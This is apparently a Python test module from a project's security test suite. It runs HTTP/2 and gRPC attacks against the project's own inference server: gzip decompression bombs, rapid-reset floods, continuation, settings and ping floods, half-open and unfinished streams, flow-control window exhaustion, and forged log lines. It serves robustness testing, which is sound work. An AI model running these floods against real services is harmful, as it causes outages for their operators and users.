"""Attacks with frames of HTTP/2, most of them without a token."""

import zlib
from contextlib import ExitStack, closing, suppress
from functools import cache

from grpc_health.v1 import health_pb2
from hpack import Encoder
from hyperframe import frame as h2

from edge.pb import inference_pb2 as pb
from tests.attacks.measure import attack
from tests.attacks.wire import HEALTH, INFER, Peer, connect, each_of, flood, http_request, message, stay
from tests.support.http2_client import raw
from tests.support.sample_requests import good

_GZIP = ("grpc-encoding", "gzip")


@cache
def _health(size):
    """Return a request for a name of this size, compressed."""
    deflater = zlib.compressobj(wbits=16 + zlib.MAX_WBITS)
    content = health_pb2.HealthCheckRequest(service="a" * size).SerializeToString()
    return deflater.compress(content) + deflater.flush()


def _compressed(target, method, calls, size, seconds):
    name = _health(size)
    with Peer(target.grpc_port) as peer:
        peer.agree()
        for _ in range(calls):
            peer.call(f"/{HEALTH}/{method}", name, _GZIP, compressed=True)
        peer.stay(seconds)


@attack()
def compressed_names_to_watch(target):
    """40 watches of 30 kB each, which hold names of 30 MB."""
    _compressed(target, "Watch", 40, 30_000_000, 1.0)


@attack()
def compressed_names_to_check(target):
    """15 checks of 58 kB each, which inflate to 60 MB."""
    _compressed(target, "Check", 15, 60_000_000, 0.5)


@attack()
def half_open_calls(target):
    """30 connections of 4,000 calls without an end, each with 8 KB of headers that take 18 bytes."""
    large = ("x", "y" * 3_500)

    def open_calls(peer):
        peer.agree()
        peer.write(b"".join(peer.head(f"/{HEALTH}/Check", large, large)[1] for _ in range(4_000)))

    each_of(30, target.grpc_port, open_calls, 2.0, rest_seconds=0.5)


@attack()
def forged_log_lines(target):
    """The debug data of GOAWAY with line ends and escapes, which a library may write to the log."""
    line = b"\n\x1b[31m2026-01-01 ERROR forged: all models are lost"
    data = (line * (16_000 // len(line)))[:16_000]
    flood(target.grpc_port, h2.GoAwayFrame(0, error_code=2, additional_data=data).serialize() * 20, 0.3)
    return "a forged line in the log" if b"ERROR forged" in target.log.read_bytes()[-10_000_000:] else None


def _resets(target, fields):
    # grpcio's window for a connection would end it.
    body = message(good().SerializeToString()) if target.transport == "nghttp2" else b""
    with Peer(target.grpc_port) as peer:
        peer.agree()
        written = bytearray()
        while len(written) < 5_300_000:
            stream, head = peer.head(INFER, *fields)
            written += head + (raw(0, 1, stream, body) if body else b"") + raw(3, 0, stream, b"\0\0\0\x08")
        peer.write(bytes(written))
        peer.stay(1.0)


@attack()
def rapid_resets(target):
    """5.3 MB of calls, each reset at once, in one write."""
    _resets(target, target.bearer())


@attack()
def rapid_resets_without_token(target):
    """The same of calls that are not authorized."""
    _resets(target, ())


@attack()
def unread_answers(target):
    """8 connections that take no answer, and ask for 80 MB of them each."""
    request = pb.ModelInferRequest(id="i" * 10_000_000)
    request.MergeFrom(good())
    content = request.SerializeToString()

    def ask(peer):
        peer.agree()
        for _ in range(8):
            peer.call(INFER, content, *target.bearer())

    each_of(8, target.grpc_port, ask, settings={h2.SettingsFrame.INITIAL_WINDOW_SIZE: 0})


def _headers(flags):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", INFER), (":authority", "test")]
    return raw(1, flags, 1, Encoder().encode([*fields, ("te", "trailers"), ("content-type", "application/grpc")]))


_OPENED = _headers(4)
_FLOODS = {
    "settings": raw(4, 0, 0, b"\0\x04\0\0\xff\xff" * 100) * 2_000,
    "priorities": raw(2, 0, 1, b"\0\0\0\x03\x10") * 2_000,
    "empty-data": _OPENED + raw(0, 0, 1, b"") * 50_000,
    "window-updates-of-nothing": _OPENED + raw(8, 0, 1, bytes(4)) * 5_000,
    "window-overflows": raw(8, 0, 0, b"\x7f\xff\xff\xff") * 2_000,
    "continuations": _headers(0) + raw(9, 0, 1, b"\x40\x01x\x01y") * 20_000,
    "padding": _OPENED + raw(0, 8, 1, b"\xff" + bytes(255)) * 200,
    "data-after-the-end": _headers(5) + raw(0, 0, 1, bytes(10)) * 20_000,
    "unknown-frames": raw(0x42, 0xFF, 7, bytes(100)) * 2_000,
}


@attack(doors=_FLOODS)
def flood_of(target, door):
    flood(target.grpc_port, _FLOODS[door])


@attack()
def flood_of_pings(target):
    """Pings on one connection after another: a server with several threads may read each on a different one."""
    for _ in range(6):
        flood(target.grpc_port, raw(6, 0, 0, bytes(8)) * 2_000, 0.7)


#: Whoever may call can fill the queue, against which there is --rate-limit.
_SHARE_THE_QUEUE = ("infer", "image")


def _flood_of_calls(target, *, trailers):
    content = message(good().SerializeToString())
    with ExitStack() as connections:
        peers = [connections.enter_context(Peer(target.grpc_port)) for _ in range(4)]
        for peer in peers:
            peer.agree()
            written = bytearray()
            while len(written) < (1_300_000 if target.transport == "nghttp2" else 60_000):  # grpcio's first window
                stream, head = peer.head(INFER, *target.bearer())
                written += head + raw(0, 0 if trailers else 1, stream, content)
                if trailers:
                    written += raw(1, 5, stream, peer.encode(("x", "y")))
            peer.write(bytes(written))
        for peer in peers:
            peer.stay(0.3)


@attack(spares=_SHARE_THE_QUEUE)
def flood_of_calls(target):
    """5 MB of small calls on 4 connections, each in one write."""
    _flood_of_calls(target, trailers=False)


@attack(spares=_SHARE_THE_QUEUE)
def flood_of_trailers(target):
    """The same, with trailers behind each request."""
    _flood_of_calls(target, trailers=True)


def _unfinished(target, path, *fields):
    """Announce messages of 60 MB on many streams, send as much of them as the windows allow, and hang up."""
    part = b"\0" + (60_000_000).to_bytes(4, "big") + bytes(250_000)

    def begin(peer):
        peer.agree()
        for _ in range(200):
            stream, head = peer.head(path, *fields)
            peer.write(head)
            peer.send(stream, part, end=False)

    each_of(16, target.grpc_port, begin, 1.5)


@attack()
def unfinished_messages(target):
    """16 connections of 50 MB each in messages that do not end."""
    _unfinished(target, INFER, *target.bearer())


@attack()
def unfinished_messages_without_token(target):
    """The same to the health check."""
    _unfinished(target, f"/{HEALTH}/Check")


@attack()
def idle_connections(target):
    """1,000 connections that only open."""
    each_of(1_000, target.grpc_port, lambda _: None, 1.0, rest_seconds=0.3)


@attack()
def other_protocols(target):
    """HTTP/1.1, an upgrade to HTTP/2, TLS, and nonsense."""
    upgrade = ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"]
    tls = b"\x16\x03\x01\x02\0\x01" + bytes(600)
    for start in (http_request("GET /v2"), http_request("GET /v2", upgrade), tls, bytes(999)):
        with suppress(OSError), closing(connect(target.grpc_port)) as connection:
            connection.sendall(start)
            if b"200 OK" in stay(connection, 0.1):
                return f"an answer to {start[:20]!r}"
    return None


@attack()
def wrong_content_length(target):
    """Calls whose content-length is smaller or larger than what follows."""
    for length in ("1", "10000000"):
        with suppress(OSError), Peer(target.grpc_port) as peer:
            peer.agree()
            for _ in range(500):
                peer.call(INFER, good().SerializeToString(), ("content-length", length), *target.bearer())
            peer.stay(0.1)
